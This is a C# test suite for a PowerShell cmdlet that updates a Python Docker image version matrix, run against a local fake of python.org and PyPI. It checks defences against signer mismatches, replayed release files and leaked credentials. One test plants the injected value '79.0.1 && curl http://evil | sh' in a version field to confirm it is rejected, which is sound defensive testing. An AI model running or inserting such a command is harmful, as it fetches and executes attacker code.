using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Management.Automation;
using PythonImages.Tests.Hosting;
using PythonImages.Tests.ReleaseFixture;
using Xunit;

namespace PythonImages.Tests
{
    /// <summary>Update-PythonMatrix in a real runspace against the loopback python.org/GitHub/PyPI fixture.</summary>
    public sealed class UpdatePythonMatrixTests : IDisposable
    {
        private readonly ModuleSession session = new ModuleSession();
        private readonly PythonOrgFixture f = new PythonOrgFixture();
        private readonly string work = Path.Combine(Path.GetTempPath(), "pi-i12-module-" + Guid.NewGuid().ToString("N")[..8]);
        private readonly string matrixPath;
        private readonly string matrix;

        public UpdatePythonMatrixTests()
        {
            f.Add("3.11.15", windows: false, setuptools: "79.0.1");
            f.Add("3.13.14");
            f.Add("3.14.5");
            f.Add("3.14.6");
            f.Add("3.15.0b2");
            f.Add("3.15.0b3");
            Directory.CreateDirectory(work);
            matrixPath = Path.Combine(work, "m.yaml");
            matrix = $@"# comment kept
versions:
  '3.15-rc':
    version: 3.15.0b2
    checksums:
      source: {{sha256: {Sha("3.15.0b2")}}}
      windows: {{sha256: {Win("3.15.0b2")}}}
    variants:
      - trixie
      - slim-trixie
      - windows/windowsservercore-ltsc2025
  '3.14':
    version: 3.14.5   # the bot bumps this
    checksums:
      source: {{sha256: {Sha("3.14.5")}}}
      windows: {{sha256: {Win("3.14.5")}}}
    variants:
      - trixie
      - slim-trixie
      - windows/windowsservercore-ltsc2025
  '3.13':
    version: 3.13.14
    checksums:
      source: {{sha256: {Sha("3.13.14")}}}
      windows: {{sha256: {Win("3.13.14")}}}
    variants:
      - trixie
      - alpine3.24
      - windows/windowsservercore-ltsc2025
  '3.11':
    version: 3.11.15
    checksums:
      source: {{sha256: {Sha("3.11.15")}}}
    setuptools: {{version: 79.0.1}}
    variants:
      - slim-bookworm
";
            File.WriteAllText(matrixPath, matrix);
        }

        private string Sha(string v) => f.Releases.Single(r => r.Version == v).SourceSha256;

        private string Win(string v) => f.Releases.Single(r => r.Version == v).WindowsSha256!;

        private PsResult Update(string extra = "") => session.Run(
            "$p = @{ PythonOrgUri = $f.PythonOrgUri; CPythonSourceUri = $f.CPythonSourceUri; PyPIUri = $f.PyPIUri; AllowInsecureSource = $true; TrustedRootPath = $f.TrustedRootPath }\n"
            + "Update-PythonMatrix -Path $m @p " + extra,
            new Dictionary<string, object?> { ["f"] = f, ["m"] = matrixPath, ["work"] = work });

        [Fact]
        public void PassThruGivesOneResultPerKeyWithATableView()
        {
            var r = Update("-PassThru");
            Assert.Empty(r.AllErrors);
            var results = r.Output.Select(o => o.Properties).ToList();
            Assert.Equal(new[] { "3.15-rc", "3.14", "3.13", "3.11" }, results.Select(p => (string)p["VersionKey"].Value));
            var k314 = results[1];
            Assert.Equal("3.14.5", k314["OldVersion"].Value);
            Assert.Equal("3.14.6", k314["NewVersion"].Value);
            Assert.Equal("Updated", k314["Change"].Value.ToString());
            Assert.Equal("SigstoreAndSbom", k314["SourceChecksumOrigin"].Value.ToString());
            Assert.Equal(Sha("3.14.6"), k314["SourceSha256"].Value);
            Assert.Equal(true, k314["HasWindows"].Value);
            Assert.Equal(true, k314["Written"].Value);
            Assert.Equal("79.0.1", results[3]["SetuptoolsVersion"].Value);
            Assert.Equal("Unchanged", results[2]["Change"].Value.ToString());
            Assert.Contains("version: 3.14.6   # the bot bumps this", File.ReadAllText(matrixPath));

            // progress per key
            foreach (string key in new[] { "3.15-rc", "3.14", "3.13", "3.11" })
            {
                Assert.Contains(r.Progress, p => p.StatusDescription.Contains(key));
            }

            var view = session.Run("$r | Out-Host", new Dictionary<string, object?> { ["r"] = r.Output.ToArray() });
            string text = view.HostText;
            Assert.Contains("VersionKey", text);
            Assert.Contains("OldVersion", text);
            Assert.Contains("NewVersion", text);
            Assert.Contains("Setuptools", text);
            Assert.Matches(@"3\.14\s+3\.14\.5\s+3\.14\.6\s+Updated\s+SigstoreAndSbom\s+Sigstore\s+hugo@python\.org", text);
        }

        [Fact]
        public void WithoutPassThruNothingGoesDownThePipelineButTheHostIsTold()
        {
            var r = Update();
            Assert.Empty(r.AllErrors);
            Assert.Empty(r.Output);
            Assert.Contains(r.Information, i => i.MessageData.ToString() == "3.14: 3.14.6 (was 3.14.5)");
            Assert.Contains(r.Information, i => i.MessageData.ToString() == "3.15-rc: 3.15.0b3 (was 3.15.0b2)");
        }

        [Fact]
        public void WhatIfShowsTheDiffAndWritesNothing()
        {
            var r = Update("-WhatIf -PassThru");
            Assert.Empty(r.AllErrors);
            Assert.Equal(matrix, File.ReadAllText(matrixPath));
            Assert.Contains("What if:", r.HostText);
            Assert.Contains("-    version: 3.14.5   # the bot bumps this", r.HostText);
            Assert.Contains("+    version: 3.14.6   # the bot bumps this", r.HostText);
            Assert.Contains("+      source: {sha256: " + Sha("3.14.6") + "}", r.HostText);
            // only the changed scalars: version, source and windows checksum of 3.15-rc and of 3.14
            var lines = r.HostText.Split('\n');
            Assert.Equal(6, lines.Count(l => l.StartsWith('-') && !l.StartsWith("---", StringComparison.Ordinal)));
            Assert.Equal(6, lines.Count(l => l.StartsWith('+') && !l.StartsWith("+++", StringComparison.Ordinal)));
            Assert.All(r.Output, o => Assert.Equal(false, o.Properties["Written"].Value));
            Assert.Equal("3.14.6", r.Output.Single(o => (string)o.Properties["VersionKey"].Value == "3.14").Properties["NewVersion"].Value);
            Assert.Equal(0, Directory.GetFiles(work).Count(p => !p.EndsWith("m.yaml", StringComparison.Ordinal)));
        }

        [Fact]
        public void AFailingKeyIsAnErrorRecordAndTheFileIsUntouched()
        {
            f.Releases.Single(x => x.Version == "3.14.6").SignerEmail = "mallory@example.com";
            var r = Update("-PassThru");
            var e = Refused(r, "Update.IdentityMismatch");
            Assert.Contains("mallory@example.com", e.Exception.Message);
            Assert.Contains(r.Warnings, w => w.Message.Contains("left unchanged"));
            Assert.Equal(matrix, File.ReadAllText(matrixPath));

            // -Identity (hashtables) accepts that signer for 3.14
            var ok = Update("-Identity @{ Series = '3.14'; Email = 'mallory@example.com'; Issuer = 'https://github.com/login/oauth' } -PassThru");
            Assert.Empty(ok.AllErrors);
            Assert.Equal("mallory@example.com (https://github.com/login/oauth)", ok.Output.Single(o => (string)o.Properties["VersionKey"].Value == "3.14").Properties["SignedBy"].Value);
        }

        // The one error of an update refused for key 3.14 as a security error, with what to do next; nothing reached the
        // pipeline. (What the matrix file holds afterwards is each test's own assertion.)
        private static ErrorRecord Refused(PsResult r, string errorId)
        {
            var e = Assert.Single(r.Errors);
            Assert.Equal(errorId, e.FullyQualifiedErrorId.Split(',')[0]);
            Assert.Equal(ErrorCategory.SecurityError, e.CategoryInfo.Category);
            Assert.Equal("3.14", e.TargetObject);
            Assert.False(string.IsNullOrEmpty(e.ErrorDetails?.RecommendedAction));
            Assert.Empty(r.Output);
            return e;
        }

        // The matrix at 3.14.4 (made-up checksums), written to the matrix file: it holds no checksum of 3.14.5 that would
        // give a replay of 3.14.5's files away before the download.
        private string WriteMatrixAt3144()
        {
            string at3144 = matrix.Replace("version: 3.14.5", "version: 3.14.4", StringComparison.Ordinal)
                .Replace(Sha("3.14.5"), new string('4', 64), StringComparison.Ordinal).Replace(Win("3.14.5"), new string('5', 64), StringComparison.Ordinal);
            File.WriteAllText(matrixPath, at3144);
            return at3144;
        }

        [Fact]
        public async System.Threading.Tasks.Task ABundleOfAnotherReleaseUnderTheNewNameIsRefusedAfterHashingTheFile()
        {
            // a mirror answers 3.14.6's bundle with 3.14.5's (genuine, same release manager) and has no SBOM
            using var client = new System.Net.Http.HttpClient();
            byte[] bundle = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/Python-3.14.5.tar.xz.sigstore");
            f.Releases.Single(x => x.Version == "3.14.6").SourceSbom = false;
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse { Body = bundle, ContentType = "application/json" };
            // the matrix at 3.14.4 (made-up checksums): 3.14.5's checksum is not one it holds, so the file is downloaded
            string at3144 = WriteMatrixAt3144();
            var r = Update("-VersionKey 3.14 -PassThru");
            var e = Refused(r, "Update.ChecksumMismatch");
            Assert.Contains("Python-3.14.6.tar.xz has sha256 " + Sha("3.14.6"), e.Exception.Message);
            Assert.Equal(at3144, File.ReadAllText(matrixPath));

            // the same release, honestly served: the download shows in the progress bar and the checksum is written
            f.Overrides.Clear();
            var ok = Update("-VersionKey 3.14");
            Assert.Empty(ok.AllErrors);
            Assert.Contains(ok.Progress, p => p.StatusDescription == "3.14: checking Python-3.14.6.tar.xz (0 of 0 MiB)");
            Assert.Contains("source: {sha256: " + Sha("3.14.6") + "}", File.ReadAllText(matrixPath));
        }

        [Fact]
        public async System.Threading.Tasks.Task AnOlderReleasesTarballWithItsBundleUnderTheNewNameIsRefused()
        {
            // a consistent replay: 3.14.5's genuine tarball and bundle as 3.14.6's; the bytes match the signed digest
            using var client = new System.Net.Http.HttpClient();
            byte[] tarball = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/Python-3.14.5.tar.xz");
            byte[] bundle = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/Python-3.14.5.tar.xz.sigstore");
            f.Releases.Single(x => x.Version == "3.14.6").SourceSbom = false;
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz"] = _ => new FixtureResponse { Body = tarball, ContentType = "application/x-tar" };
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse { Body = bundle, ContentType = "application/json" };

            // the matrix still holds 3.14.5: its checksum gives the replay away before anything is downloaded
            var known = Update("-VersionKey 3.14 -PassThru");
            var e = Refused(known, "Update.ChecksumOfOtherVersion");
            Assert.Equal(matrix, File.ReadAllText(matrixPath));

            // a matrix at 3.14.4 does not: the tarball is read, and its files are under Python-3.14.5/
            string at3144 = WriteMatrixAt3144();
            var r = Update("-VersionKey 3.14 -PassThru");
            e = Refused(r, "Update.ReleaseContentMismatch");
            Assert.Contains("but its files are under Python-3.14.5/, while the source of 3.14.6 keeps its files under Python-3.14.6/", e.Exception.Message, StringComparison.Ordinal);
            Assert.Equal(at3144, File.ReadAllText(matrixPath));

            // the decoder came from the module's own folder, into its private load context (never the default one)
            var xz = AppDomain.CurrentDomain.GetAssemblies().Where(a => a.GetName().Name == "SharpCompress").ToList();
            Assert.Contains(xz, a => Path.GetDirectoryName(a.Location) == Path.Combine(ModuleSession.RepoRoot, "bin", "dependencies"));
            Assert.All(xz, a => Assert.NotSame(System.Runtime.Loader.AssemblyLoadContext.Default, System.Runtime.Loader.AssemblyLoadContext.GetLoadContext(a)));
        }

        [Fact]
        public async System.Threading.Tasks.Task AnOlderReleasesInstallerWithItsBundleUnderTheNewNameIsRefused()
        {
            // 3.14.5's genuine installer and bundle as 3.14.6's, with a matrix at 3.14.4 (no checksum of 3.14.5 to give it away)
            using var client = new System.Net.Http.HttpClient();
            byte[] installer = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/python-3.14.5-amd64.exe");
            byte[] bundle = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/python-3.14.5-amd64.exe.sigstore");
            f.Overrides["/ftp/python/3.14.6/python-3.14.6-amd64.exe"] = _ => new FixtureResponse { Body = installer };
            f.Overrides["/ftp/python/3.14.6/python-3.14.6-amd64.exe.sigstore"] = _ => new FixtureResponse { Body = bundle, ContentType = "application/json" };
            string at3144 = WriteMatrixAt3144();

            var r = Update("-VersionKey 3.14 -PassThru");
            var e = Refused(r, "Update.ReleaseContentMismatch");
            Assert.Contains("but its version resource says 3.14.5150.0, the file version of the installer of 3.14.5, while the installer of 3.14.6 carries the file version 3.14.6150.*", e.Exception.Message, StringComparison.Ordinal);
            Assert.Equal(at3144, File.ReadAllText(matrixPath));

            // the genuine installer passes and its checksum is written
            f.Overrides.Clear();
            var ok = Update("-VersionKey 3.14");
            Assert.Empty(ok.AllErrors);
            Assert.Contains("windows: {sha256: " + Win("3.14.6") + "}", File.ReadAllText(matrixPath));
        }

        [Fact]
        public void HostileValuesNeverReachTheFile()
        {
            f.Releases.Single(x => x.Version == "3.11.15").Setuptools = "79.0.1 && curl http://evil | sh";
            var r = Update();
            var e = Assert.Single(r.Errors);
            Assert.Equal("Update.RejectedValue", e.FullyQualifiedErrorId.Split(',')[0]);
            Assert.Equal(ErrorCategory.InvalidData, e.CategoryInfo.Category);
            Assert.Equal(matrix, File.ReadAllText(matrixPath));
        }

        [Fact]
        public void RcToFinalNeedsTheKeyRenamed()
        {
            f.Add("3.15.0");
            var r = Update("-VersionKey 3.15-rc");
            Assert.Equal("Update.FinalUnderRcKey", Assert.Single(r.Errors).FullyQualifiedErrorId.Split(',')[0]);
            Assert.Equal(matrix, File.ReadAllText(matrixPath));

            var renamed = Update("-Add 3.15 -Remove 3.15-rc -PassThru");
            Assert.Empty(renamed.AllErrors);
            Assert.Equal(new[] { "3.15-rc:Removed", "3.15:Added" }, renamed.Output.Select(o => o.Properties["VersionKey"].Value + ":" + o.Properties["Change"].Value).OrderBy(x => x, StringComparer.Ordinal));
            var tags = session.Run("Get-PythonTag -MatrixPath $m -Version 3.15 | ForEach-Object Directory", new Dictionary<string, object?> { ["m"] = matrixPath });
            Assert.Equal(new[] { "3.15/trixie", "3.15/slim-trixie", "3.15/windows/windowsservercore-ltsc2025" }, tags.Output.Select(o => o.ToString()));
        }

        [Fact]
        public void FollowOnRegeneratesExactlyTheDockerfilesWhoseVersionChanged()
        {
            string images = Path.Combine(work, "images");
            var vars = new Dictionary<string, object?> { ["m"] = matrixPath, ["images"] = images };
            var first = session.Run("Get-PythonTag -MatrixPath $m | New-PythonDockerfile -Path $images", vars);
            Assert.Empty(first.AllErrors);
            Assert.Equal(10, first.Output.Count);

            Assert.Empty(Update().AllErrors);

            var again = session.Run("Get-PythonTag -MatrixPath $m | New-PythonDockerfile -Path $images", vars);
            Assert.Empty(again.AllErrors);
            var actions = again.Output.ToDictionary(o => (string)o.Properties["Directory"].Value, o => (string)o.Properties["DockerfileAction"].Value);
            Assert.Equal(10, actions.Count);
            foreach (var kv in actions)
            {
                bool changed = kv.Key.StartsWith("3.14/", StringComparison.Ordinal) || kv.Key.StartsWith("3.15-rc/", StringComparison.Ordinal);
                Assert.True((changed ? "Updated" : "Unchanged") == kv.Value, $"{kv.Key}: {kv.Value}");
            }

            Assert.Contains("3.14.6", File.ReadAllText(Path.Combine(images, "3.14", "trixie", "Dockerfile")));
            Assert.Contains(Sha("3.14.6"), File.ReadAllText(Path.Combine(images, "3.14", "trixie", "Dockerfile")));
        }

        [Fact]
        public void CtrlCStopsAStalledUpdateAndLeavesTheFile()
        {
            f.Overrides["/ftp/python/"] = _ => new FixtureResponse { Stall = true };
            using var ps = PowerShell.Create();
            ps.Runspace = session.Runspace;
            ps.AddCommand("Update-PythonMatrix").AddParameter("Path", matrixPath).AddParameter("PythonOrgUri", f.PythonOrgUri)
                .AddParameter("CPythonSourceUri", f.CPythonSourceUri).AddParameter("PyPIUri", f.PyPIUri).AddParameter("AllowInsecureSource")
                .AddParameter("TrustedRootPath", f.TrustedRootPath).AddParameter("TimeoutSec", 600);
            var run = ps.BeginInvoke();
            var deadline = DateTime.UtcNow.AddSeconds(20);
            while (f.Count("/ftp/python/") == 0 && DateTime.UtcNow < deadline)
            {
                System.Threading.Thread.Sleep(50);
            }

            Assert.Equal(1, f.Count("/ftp/python/"));
            var watch = System.Diagnostics.Stopwatch.StartNew();
            ps.Stop();
            Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), "Stop took " + watch.Elapsed);
            Assert.True(run.IsCompleted);
            Assert.Equal(PSInvocationState.Stopped, ps.InvocationStateInfo.State);
            Assert.Equal(matrix, File.ReadAllText(matrixPath));
        }

        [Fact]
        public void CredentialsInABaseUriNeverReachTheErrorRecord()
        {
            var r = session.Run("Update-PythonMatrix -Path $m -PythonOrgUri 'https://alice:s3cret@mirror.example/'",
                new Dictionary<string, object?> { ["m"] = matrixPath });
            var e = Assert.Single(r.AllErrors);
            Assert.Equal("Update.InvalidUri", e.FullyQualifiedErrorId.Split(',')[0]);
            Assert.DoesNotContain("s3cret", e.ToString());
            Assert.DoesNotContain("s3cret", e.TargetObject?.ToString() ?? string.Empty);
            Assert.Contains("mirror.example", e.TargetObject?.ToString() ?? string.Empty);
            Assert.DoesNotContain(r.Output, o => (o?.ToString() ?? string.Empty).Contains("s3cret"));
        }

        [Theory]
        [InlineData("PythonOrgUri", "?token=s3cret")]
        [InlineData("CPythonSourceUri", "?token=s3cret")]
        [InlineData("PyPIUri", "#s3cret")]
        public void AQueryOrFragmentInABaseUriIsRefusedBeforeAnyRequest(string parameter, string suffix)
        {
            // The files' addresses are the base URI with a path appended: after a query or fragment that path would be
            // part of it (every request asked the base for "?token=...ftp/python/"), and the query reached the messages.
            var r = session.Run(
                "$p = @{ PythonOrgUri = $f.PythonOrgUri; CPythonSourceUri = $f.CPythonSourceUri; PyPIUri = $f.PyPIUri; AllowInsecureSource = $true; TrustedRootPath = $f.TrustedRootPath }\n"
                + "$p[$name] += $suffix\nUpdate-PythonMatrix -Path $m @p",
                new Dictionary<string, object?> { ["f"] = f, ["m"] = matrixPath, ["name"] = parameter, ["suffix"] = suffix });
            var e = Assert.Single(r.AllErrors);
            Assert.Equal("Update.InvalidUri", e.FullyQualifiedErrorId.Split(',')[0]);
            Assert.Equal(ErrorCategory.InvalidArgument, e.CategoryInfo.Category);
            Assert.Contains("-" + parameter, e.ToString());
            Assert.DoesNotContain("s3cret", e.ToString());
            Assert.DoesNotContain("s3cret", e.TargetObject?.ToString() ?? string.Empty);
            Assert.DoesNotContain("s3cret", e.ErrorDetails?.RecommendedAction ?? string.Empty);
            Assert.Empty(f.Server.Requests);
            Assert.Equal(matrix, File.ReadAllText(matrixPath));
        }

        public void Dispose()
        {
            session.Dispose();
            f.Dispose();
            Directory.Delete(work, true);
        }
    }
}
